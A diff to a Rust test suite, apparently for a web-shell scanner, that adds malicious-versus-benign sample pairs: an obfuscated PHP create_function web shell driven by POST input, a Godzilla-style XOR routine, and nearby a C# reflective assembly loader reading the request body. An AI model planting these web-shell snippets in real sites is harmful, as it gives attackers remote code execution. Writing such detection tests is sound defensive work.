@@ -263,6 +263,16 @@ fn cases() -> Vec<(&'static str, Vec<u8>, Vec<u8>)> {
             page("void Page_Load() { System.AppDomain.CurrentDomain.GetAssemblies(); }"),
         ),
         (
+            "exsweep_php_function_from_text",
+            j(&["<?php $k = 'wolf' . 'shell'; $f = implode('', ['cr', 'eate_', 'function']); $g = @$f('', $_POST[$k]); @$g(); ?>"]),
+            j(&["<?php $f = create_function('$a', 'return $a * 2;'); echo $f($_GET['n']); ?>"]),
+        ),
+        (
+            "exsweep_php_godzilla_xor",
+            j(&["<?php @session_start(); function e($D, $K) { for ($i = 0; $i < strlen($D); $i++) { $c = $K[($i + 1) & 15]; $D[$i] = $D[$i] ^ $c; } return $D; } ?>"]),
+            j(&["<?php session_start(); function mask($D, $K) { for ($i = 0; $i < strlen($D); $i++) { $D[$i] = chr(ord($D[$i]) & 15); } return $D; } ?>"]),
+        ),
+        (
             "exsweep_reflected_byte_array_load",
             page("void A() { var m = typeof(System.Reflection.Assembly).GetMethod(new string(new char[] {'d','a','o','L'}.Reverse().ToArray()), new System.Type[] { typeof(byte[]) }); m.Invoke(null, new object[] { Request.BinaryRead(Request.ContentLength) }); }"),
             page("void A() { var m = typeof(Codec).GetMethod(\"Decode\", new Type[] { typeof(string) }); m.Invoke(null, new object[] { Request[\"q\"] }); }"),
